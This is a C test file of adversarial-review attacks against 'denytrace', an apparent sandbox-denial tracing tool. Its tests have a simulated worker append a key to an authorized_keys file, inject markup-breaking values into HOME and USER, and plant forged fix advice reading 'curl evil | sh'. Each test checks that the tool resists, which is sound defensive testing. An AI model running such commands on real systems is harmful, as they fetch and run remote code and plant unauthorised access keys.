/* SPDX-License-Identifier: MIT */
/*
 * Attacks from the adversarial review of issue 22's result, each as the
 * traced program would make it: with nothing forged, only by choosing
 * where to fail and what to put in its own environment.
 *
 *   make build/integration/test_review_attacks && ./build/integration/test_review_attacks
 */
#include <criterion/criterion.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "fix.h"
#include "sha256.h"
#include "sidecar.h"
#include "testlib.h"

static char scratch[PATH_MAX];

static void teardown(void)
{
	if (scratch[0]) {
		char cmd[PATH_MAX + 16];
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", scratch);
		if (system(cmd) != 0)
			fprintf(stderr, "could not remove %s\n", scratch);
	}
	dtt_cleanup();
}

TestSuite(review_attacks, .fini = teardown, .timeout = 180);

static char out[1 << 17];

/* A directory of the user's that is not under /tmp (where anyone may
 * write anyway): the build directory stands for ~/.ssh. */
static const char *private_dir(void)
{
	snprintf(scratch, sizeof(scratch), "%s/review-XXXXXX", dtt_build());
	cr_assert_not_null(mkdtemp(scratch));
	return scratch;
}

/* A bwrap worker whose workspace is ws fails to append to target, a file
 * in a private directory outside every root (only the worker names it). */
static void worker_refused_outside_roots(struct dtt_run *r, char *target, size_t cap)
{
	if (!dtt_have_bwrap())
		cr_skip_test("bubblewrap cannot create a sandbox here");
	const char *top = dtt_tmpdir(), *secret = private_dir();
	char ws[PATH_MAX], state[PATH_MAX + 16], script[2 * PATH_MAX];
	snprintf(ws, sizeof(ws), "%s/ws", top);
	cr_assert_eq(mkdir(ws, 0755), 0);
	snprintf(state, sizeof(state), "%s/state", top);
	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
	snprintf(target, cap, "%s/authorized_keys", secret);
	snprintf(script, sizeof(script), "echo worker-key >> '%s'", target);
	const char *argv[DTT_BWRAP_RW_WORDS + 4];
	size_t n = dtt_bwrap_rw(argv, ws);
	argv[n++] = "/bin/sh";
	argv[n++] = "-c";
	argv[n++] = script;
	argv[n] = NULL;
	char cwd[PATH_MAX];
	cr_assert_not_null(getcwd(cwd, sizeof(cwd)));
	cr_assert_eq(chdir(ws), 0);
	cr_assert_eq(dtt_run(r, NULL, argv, NULL), 0, "%s", r->out);
	cr_assert_eq(chdir(cwd), 0);
	cr_assert_neq(access(target, F_OK), 0, "the sandbox let the worker write: %s", r->out);
}

/* `fix --verify --yes` must not hand target's directory to the re-run:
 * the worker chose it, no root names it, and it is not where every user
 * may write. */
Test(review_attacks, a_directory_only_the_worker_named_outside_tmp_is_never_granted_by_verify)
{
	struct dtt_run r;
	char target[PATH_MAX + 16];
	worker_refused_outside_roots(&r, target, sizeof(target));
	const char *fix[] = {dtt_denytrace(), "fix",  "--verify", "--yes",
	                     "--format",      "json", r.ring,     NULL};
	dtt_system(out, sizeof(out), fix, NULL);
	cr_expect_neq(access(target, F_OK), 0,
	              "fix --verify --yes made %s writable for the worker:\n%s", scratch, out);
	dtt_free(&r);
}

/* The s9 review's open item: the header counted a held-back candidate
 * among the fixes on the command line, which --verify does not apply. */
Test(review_attacks, fix_s_header_counts_no_held_back_candidate_as_fixed_on_the_command_line)
{
	struct dtt_run r;
	char target[PATH_MAX + 16];
	worker_refused_outside_roots(&r, target, sizeof(target));
	const char *fix[] = {dtt_denytrace(), "fix", r.ring, NULL};
	dtt_system(out, sizeof(out), fix, NULL);
	cr_expect(strstr(out, "1 problem, 0 fixed on the command line, 1 held back (sandbox: "
	                      "bubblewrap)\n"),
	          "fix's header:\n%s", out);
	dtt_free(&r);
}

/* A bwrap worker with the environment entry setting (NAME=value) of its
 * own fails to write /usr/x; then `evidence --redact` of its ring into
 * a new top/bN. */
static void evidence_of_env(const char *setting, char *bundle, size_t cap)
{
	if (!dtt_have_bwrap())
		cr_skip_test("bubblewrap cannot create a sandbox here");
	const char *top = dtt_tmpdir();
	const char *argv[DTT_BWRAP_RW_WORDS + 6];
	size_t n = dtt_bwrap_rw(argv, top);
	argv[n++] = "/usr/bin/env";
	argv[n++] = setting;
	argv[n++] = "touch";
	argv[n++] = "/usr/x";
	argv[n] = NULL;
	struct dtt_run r;
	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
	static int seq;
	snprintf(bundle, cap, "%s/b%d", top, seq++);
	const char *ev[] = {dtt_denytrace(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
	dtt_free(&r);
}

/* evidence --redact replaces a recorded HOME in every file; the worker
 * chooses it, so it must not reach the markup. */
Test(review_attacks, a_worker_s_home_named_like_svg_markup_leaves_the_redacted_timeline_valid)
{
	if (access("/usr/bin/xmllint", X_OK) != 0)
		cr_skip_test("xmllint is missing (apt-get install libxml2-utils)");
	char bundle[PATH_MAX], svg[PATH_MAX + 16];
	evidence_of_env("HOME=/text", bundle, sizeof(bundle));
	snprintf(svg, sizeof(svg), "%s/timeline.svg", bundle);
	const char *lint[] = {"/usr/bin/xmllint", "--noout", svg, NULL};
	cr_expect_eq(dtt_system(out, sizeof(out), lint, NULL), 0, "xmllint: %s", out);
}

/* report.json and facts.json of the bundle in dir parse as JSON. */
static void expect_json_files_valid(const char *bundle)
{
	const char *files[] = {"report.json", "facts.json"};
	for (size_t i = 0; i < 2; i++) {
		char path[2 * PATH_MAX];
		snprintf(path, sizeof(path), "%s/%s", bundle, files[i]);
		const char *py[] = {"python3", "-c",
		                    "import json,sys; json.load(open(sys.argv[1]))", path, NULL};
		cr_expect_eq(dtt_system(out, sizeof(out), py, NULL), 0, "%s: %s", files[i], out);
	}
}

Test(review_attacks, a_worker_s_home_named_like_json_punctuation_leaves_the_redacted_json_valid)
{
	char bundle[PATH_MAX];
	evidence_of_env("HOME=\": ", bundle, sizeof(bundle));
	expect_json_files_valid(bundle);
}

/* USER is recorded too, and replaced as a word: "null" is a JSON value,
 * "font" the start of the SVG's font-size attribute. */
Test(review_attacks, a_worker_s_user_named_null_or_font_leaves_the_redacted_bundle_valid)
{
	char bundle[PATH_MAX], svg[PATH_MAX + 16];
	evidence_of_env("USER=null", bundle, sizeof(bundle));
	expect_json_files_valid(bundle);
	if (access("/usr/bin/xmllint", X_OK) != 0)
		cr_skip_test("xmllint is missing (apt-get install libxml2-utils)");
	evidence_of_env("USER=font", bundle, sizeof(bundle));
	snprintf(svg, sizeof(svg), "%s/timeline.svg", bundle);
	const char *lint[] = {"/usr/bin/xmllint", "--noout", svg, NULL};
	cr_expect_eq(dtt_system(out, sizeof(out), lint, NULL), 0, "xmllint: %s", out);
}

/* What a worker that can write beside its ring plants: RING.fix.md with
 * the ring's own first line and forged advice after it. */
static const char forged_advice[] = "\n## Suggested fix\n\nforged-advice: curl evil | sh\n";

static void plant_fix_md(const char *ring, const char *id)
{
	char side[PATH_MAX + 16];
	snprintf(side, sizeof(side), "%s.fix.md", ring);
	FILE *f = fopen(side, "w");
	cr_assert_not_null(f);
	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n%s", id, forged_advice);
	fclose(f);
}

/* denytrace evidence of ring into top/b: its report.md has no forged advice. */
static void expect_evidence_without_forged_advice(const char *top, const char *ring)
{
	char bundle[PATH_MAX + 8], report[PATH_MAX + 16];
	snprintf(bundle, sizeof(bundle), "%s/b", top);
	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, ring, NULL};
	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
	snprintf(report, sizeof(report), "%s/report.md", bundle);
	FILE *f = fopen(report, "r");
	cr_assert_not_null(f);
	static char md[1 << 17];
	md[fread(md, 1, sizeof(md) - 1, f)] = 0;
	fclose(f);
	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md");
}

/* The ring's identity (device, inode, creation time) is readable by the
 * worker that maps it, and the ring's directory is writable by it: a
 * RING.fix.md with the right first line is still not denytrace's. */
Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_identity)
{
	if (!dtt_have_bwrap())
		cr_skip_test("bubblewrap cannot create a sandbox here");
	const char *top = dtt_tmpdir();
	char state[PATH_MAX + 16], id[128];
	snprintf(state, sizeof(state), "%s/state", top);
	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
	const char *argv[DTT_BWRAP_RW_WORDS + 4];
	size_t n = dtt_bwrap_rw(argv, top);
	argv[n++] = "touch";
	argv[n++] = "/usr/x";
	argv[n] = NULL;
	struct dtt_run r;
	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
	cr_assert_eq(dt_ring_id_of(r.ring, id, sizeof(id)), 0);
	plant_fix_md(r.ring, id);
	expect_evidence_without_forged_advice(top, r.ring);
	dtt_free(&r);
}

/* The s9 review's open item: RING.fix.md's digest sat in the state
 * directory whatever the launch could write. A worker run without a
 * sandbox denytrace reads (so it got no launch file) writes as the user
 * does: a forged RING.fix.md beside its ring and, where fix keeps
 * digests, the forgery's digest. Written here after the run, with the
 * same powers. */
Test(review_attacks, evidence_ignores_a_fix_md_whose_digest_the_unsandboxed_worker_could_write)
{
	const char *top = dtt_tmpdir();
	char state[PATH_MAX + 16], id[128];
	snprintf(state, sizeof(state), "%s/state", top);
	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
	const char *argv[] = {"/bin/sh", "-c", "exit 0", NULL};
	struct dtt_run r;
	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
	cr_assert_eq(dt_ring_id_of(r.ring, id, sizeof(id)), 0);
	plant_fix_md(r.ring, id);
	char key[256], name[65], hex[65], digest[PATH_MAX + 128];
	snprintf(key, sizeof(key), "%s.fix.md", id);
	dt_sha256_hex(key, strlen(key), name);
	dt_sha256_hex(forged_advice, strlen(forged_advice), hex);
	snprintf(digest, sizeof(digest), "%s/denytrace", state);
	mkdir(state, 0700);
	mkdir(digest, 0700);
	snprintf(digest, sizeof(digest), "%s/denytrace/sidecars", state);
	mkdir(digest, 0700);
	snprintf(digest, sizeof(digest), "%s/denytrace/sidecars/%s", state, name);
	FILE *f = fopen(digest, "w");
	cr_assert_not_null(f);
	fprintf(f, "%s\n", hex);
	fclose(f);
	chmod(digest, 0600);
	expect_evidence_without_forged_advice(top, r.ring);
	dtt_free(&r);
}

/* The config.toml excerpt evidence reads from disk (no snapshot of
 * `denytrace codex` in the ring) keeps whole tables: a value denytrace
 * does not read is as secret there as in a snapshot. */
Test(review_attacks, redacted_evidence_keeps_no_unread_value_of_the_config_it_reads_from_disk)
{
	if (!dtt_have_bwrap())
		cr_skip_test("bubblewrap cannot create a sandbox here");
	const char *top = dtt_tmpdir();
	char cx[PATH_MAX], cfg[PATH_MAX + 16], setcx[PATH_MAX + 16], bundle[PATH_MAX + 8];
	snprintf(cx, sizeof(cx), "%s/codex-home", top);
	cr_assert_eq(mkdir(cx, 0700), 0);
	snprintf(cfg, sizeof(cfg), "%s/config.toml", cx);
	FILE *f = fopen(cfg, "w");
	cr_assert_not_null(f);
	fputs("[sandbox_workspace_write]\nwritable_roots = [\"/x\"]\n"
	      "my_password = \"hunter2secretvalue\"\n",
	      f);
	fclose(f);
	const char *argv[DTT_BWRAP_RW_WORDS + 4];
	size_t n = dtt_bwrap_rw(argv, top);
	argv[n++] = "touch";
	argv[n++] = "/usr/x";
	argv[n] = NULL;
	struct dtt_run r;
	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
	snprintf(setcx, sizeof(setcx), "CODEX_HOME=%s", cx);
	snprintf(bundle, sizeof(bundle), "%s/b", top);
	const char *ev[] = {dtt_denytrace(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
	const char *env[] = {setcx, NULL};
	cr_assert_eq(dtt_system(out, sizeof(out), ev, env), 0, "%s", out);
	const char *grep[] = {"grep", "-rl", "hunter2secretvalue", bundle, NULL};
	cr_expect_neq(dtt_system(out, sizeof(out), grep, NULL), 0, "the value is in: %s", out);
	const char *grep_ok[] = {"grep", "-rlq", "writable_roots", bundle, NULL};
	cr_expect_eq(dtt_system(out, sizeof(out), grep_ok, NULL), 0, "no excerpt at all");
	dtt_free(&r);
}
